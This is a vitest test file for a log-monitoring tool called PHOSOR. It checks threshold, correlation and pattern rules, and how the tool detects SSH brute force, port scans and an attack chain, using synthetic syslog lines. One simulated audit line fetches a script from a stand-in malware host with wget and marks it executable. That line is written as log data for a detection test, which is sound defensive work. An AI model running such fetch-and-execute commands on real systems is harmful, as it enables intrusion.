import { appendFileSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type Program, removeFolder, startProgram, waitFor } from '../program.ts';
import { datagram, getJson, type Json, Live, post, send } from './client.ts';

/* Native rules as PHOSOR documents them, and its five demonstrations. */

let program: Program;
let live: Live;
const watched = mkdtempSync(join(tmpdir(), 'phosor-watched-'));
const file = join(watched, 'security.log');

beforeAll(async () => {
  writeFileSync(file, '');
  program = await startProgram({ env: { PHOSOR_FILE_ROOTS: watched } });
  live = await Live.open(program);
  await post(program, '/api/sources/file/add', { filepath: file });
}, 90_000);

afterAll(async () => {
  live?.close();
  await program?.stop();
  if (program) removeFolder(program.dataDir);
  removeFolder(watched);
});

/** RFC 5424 time `secondsAgo` before now: rules count in the time that lines state. */
const stamp = (secondsAgo: number) => new Date(Date.now() - secondsAgo * 1000).toISOString();
let sent = 0;

/** Sends one line of its own and waits until it has been through the pipeline. */
async function line(text: string, secondsAgo = 0): Promise<void> {
  sent += 1;
  const mark = `mark-${sent}`;
  await datagram(program, `<38>1 ${stamp(secondsAgo)} testhost ${text} ${mark}`);
  await live.event(mark, ({ raw }) => raw.endsWith(mark));
}
const failure = (secondsAgo = 0) =>
  line('sshd 1234 - - Failed password for alice from 203.0.113.50 port 4711 ssh2', secondsAgo);
const asRoot = () => line('sudo 99 - - alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id');

async function withRule(rule: object, work: (id: string) => Promise<void>): Promise<void> {
  const { id } = await post(program, '/api/rules', { name: 'Under test', severity: 'warning', ...rule });
  await work(id);
  await send(program, 'DELETE', `/api/rules/${id}`);
}

/** The list of alerts has all that the events before it raised, and on one connection they come before an event behind it. */
async function alertsOf(id: string): Promise<Json[]> {
  await line('app - - - fence');
  await getJson(program, '/api/alerts?limit=1');
  await line('app - - - fence');
  return live.alertsOf(id);
}

describe('native rules', () => {
  const threshold = {
    type: 'threshold',
    severity: 'critical',
    config: { field: 'parsed.event_type', value: 'auth_fail', count: 5, window_seconds: 60 },
  };
  const correlation = {
    type: 'correlation',
    severity: 'critical',
    config: {
      conditions: [
        { field: 'parsed.event_type', value: 'auth_fail' },
        { field: 'parsed.event_type', value: 'privileged_access' },
      ],
      within_seconds: 300,
    },
  };

  test('P-080 a pattern fires on one event within 100 ms', () =>
    withRule({ type: 'pattern', config: { field: 'raw', regex: 'Failed password' } }, async (id) => {
      // The quickest of ten, because other tests want the processor too; the bench measures the slowest hundredth.
      let quickest = Number.POSITIVE_INFINITY;
      for (let i = 1; i <= 10; i += 1) {
        const raised = live.arrival(
          ({ type, data }) =>
            type === 'alert' &&
            data.rule_id === id &&
            JSON.stringify(data.matched_events).includes(`198.51.100.${i} port`),
        );
        const before = performance.now();
        await datagram(
          program,
          `<38>1 ${stamp(0)} testhost sshd 7 - - Failed password for bob from 198.51.100.${i} port 1 ssh2`,
        );
        quickest = Math.min(quickest, (await raised) - before);
      }
      expect(quickest).toBeLessThan(100);
      const [alert] = live.alertsOf(id);
      expect(alert).toMatchObject({ severity: 'warning', count: 1 });
      expect(alert.matched_events).toHaveLength(1);
    }));

  test('P-081 a threshold of 5 is met by the fifth event', () =>
    withRule(threshold, async (id) => {
      for (let i = 0; i < 4; i += 1) await failure();
      expect(await alertsOf(id)).toEqual([]);
      await failure();
      const alerts = await alertsOf(id);
      expect(alerts).toMatchObject([{ severity: 'critical', count: 5 }]);
      expect(alerts[0].matched_events).toHaveLength(5);
    }));

  test('10 events at a threshold of 5 are 2 alerts', () =>
    withRule(threshold, async (id) => {
      for (let i = 0; i < 10; i += 1) await failure();
      expect(await alertsOf(id)).toHaveLength(2);
    }));

  test('P-082 4 events and 1 a minute later are none', () =>
    withRule(threshold, async (id) => {
      for (let i = 0; i < 4; i += 1) await failure(62);
      await failure(0);
      expect(await alertsOf(id)).toEqual([]);
    }));

  test.each([
    ['failure first', [failure, asRoot]],
    ['root first', [asRoot, failure]],
  ])('P-083 a correlation in any order: %s', (_, steps) =>
    withRule(correlation, async (id) => {
      for (const step of steps) await step();
      expect(await alertsOf(id)).toHaveLength(1);
    }),
  );

  test('P-084 one of two conditions is none', () =>
    withRule(correlation, async (id) => {
      await failure();
      await failure();
      expect(await alertsOf(id)).toEqual([]);
    }));
});

test(
  'P-085 more than 10,000 events and 1,000 alerts are all kept, and the list keeps its shape',
  { timeout: 60_000 },
  () =>
    withRule({ type: 'pattern', config: { field: 'raw', regex: 'kept-4711' } }, async (id) => {
      const before = await getJson(program, '/api/stats');
      const events = Array.from({ length: 10_001 }, (_, i) => ({
        message: i < 1001 ? 'kept-4711' : 'filler',
        src_ip: `2001:db8::${i.toString(16)}`,
      }));
      for (let i = 0; i < events.length; i += 4000)
        await post(program, `/api/webhook/many${i}`, events.slice(i, i + 4000));
      const after = await waitFor('all events', async () => {
        const stats = await getJson(program, '/api/stats');
        return stats.total_events - before.total_events >= 10_001 && stats;
      });
      expect(after.stored_events - before.stored_events).toBeGreaterThanOrEqual(10_001);
      const answer = await program.api(`/api/alerts?limit=100&rule_id=${id}`);
      expect(await answer.json()).toHaveLength(100);
      expect(Number(answer.headers.get('x-total-count'))).toBe(1001);
    }),
);

describe('demonstrations, by a followed file', () => {
  let from = 0;
  beforeEach(() => {
    from = live.messages.length;
  });
  /** As syslog writes it, a second apart, ending now. */
  function append(lines: string[]): void {
    const start = Date.now() - lines.length * 1000;
    const text = lines.map((each, i) => `${new Date(start + i * 1000).toISOString()} testhost ${each}\n`);
    appendFileSync(file, text.join(''));
  }
  const alert = (what: string, wanted: (alert: Json) => boolean) =>
    live.next(
      what,
      (message) =>
        live.messages.indexOf(message) >= from &&
        (message.type === 'alert' || message.type === 'alert_update') &&
        wanted(message.data),
    );

  test('P-090 SSH brute force is critical', async () => {
    append(
      Array.from(
        { length: 6 },
        (_, i) => `sshd[12${i}]: Failed password for admin from 203.0.113.42 port 5022${i} ssh2`,
      ),
    );
    await alert(
      'a critical alert',
      ({ severity, group }) => severity === 'critical' && Object.values(group).includes('203.0.113.42'),
    );
  });

  test('P-091 a failed login and then root is correlated', async () => {
    append([
      'sshd[201]: Failed password for webdev from 198.51.100.17 port 50221 ssh2',
      'sudo: webdev : TTY=pts/0 ; PWD=/home/webdev ; USER=root ; COMMAND=/bin/bash',
    ]);
    const { data } = await alert('an alert about both', ({ group, count }) => group.user === 'webdev' && count === 2);
    expect(data.severity).toBe('critical');
    expect(data.matched_events.map((event: Json) => event.parsed.event_type)).toEqual([
      'auth_fail',
      'privileged_access',
    ]);
  });

  test('P-092 system errors are warnings or worse', async () => {
    const lines = [
      'kernel: Out of memory: Killed process 4242 (java) total-vm:8123456kB, anon-rss:7654321kB, file-rss:0kB',
      'systemd[1]: Failed to start PostgreSQL RDBMS.',
      'backup[77]: Backup FAILED: no space left on device',
    ];
    append(lines);
    for (const each of lines) {
      const event = await live.event(each, ({ raw }) => raw.includes(each));
      expect(['warning', 'critical'], each).toContain(event.severity);
    }
  });

  test('P-093 a port scan is found', async () => {
    append(
      [22, 80, 443, 3306, 5432, 27017, 6379].map(
        (port) =>
          `kernel: [UFW BLOCK] IN=eth0 OUT= MAC= SRC=203.0.113.99 DST=192.0.2.10 LEN=44 TOS=0x00 PREC=0x00 TTL=44 ID=1 PROTO=TCP SPT=40000 DPT=${port} WINDOW=1024 RES=0x00 SYN URGP=0`,
      ),
    );
    await alert(
      'a scan alert',
      ({ group, rule_name, message }) =>
        Object.values(group).includes('203.0.113.99') && /scan/i.test(`${rule_name} ${message}`),
    );
  });

  test('P-093 a port scan is found in plain DENY lines as well', async () => {
    append(
      [22, 80, 443, 3306, 5432, 27017, 6379].map(
        (port) => `firewall: DENY TCP from 203.0.113.98:45678 to 192.0.2.10:${port}`,
      ),
    );
    await alert(
      'a scan alert',
      ({ group, rule_name, message }) =>
        Object.values(group).includes('203.0.113.98') && /scan/i.test(`${rule_name} ${message}`),
    );
  });

  test('P-094 a successful attack is visible as a chain', async () => {
    append([
      'sshd[301]: Failed password for root from 203.0.113.43 port 50231 ssh2',
      'sshd[302]: Failed password for root from 203.0.113.43 port 50232 ssh2',
      'sshd[303]: Failed password for root from 203.0.113.43 port 50233 ssh2',
      'sshd[304]: Accepted password for root from 203.0.113.43 port 50234 ssh2',
      'audit: USER_CMD pid=4711 uid=0 cmd="wget http://malware.example/x.sh"',
      'audit: USER_CMD pid=4712 uid=0 cmd="chmod +x x.sh"',
    ]);
    const { data } = await alert(
      'success after failures',
      ({ group, count, severity }) => group.src_ip === '203.0.113.43' && severity === 'critical' && count === 4,
    );
    expect(data.matched_events.at(-1).event_class).toBe('auth.success');
  });
});
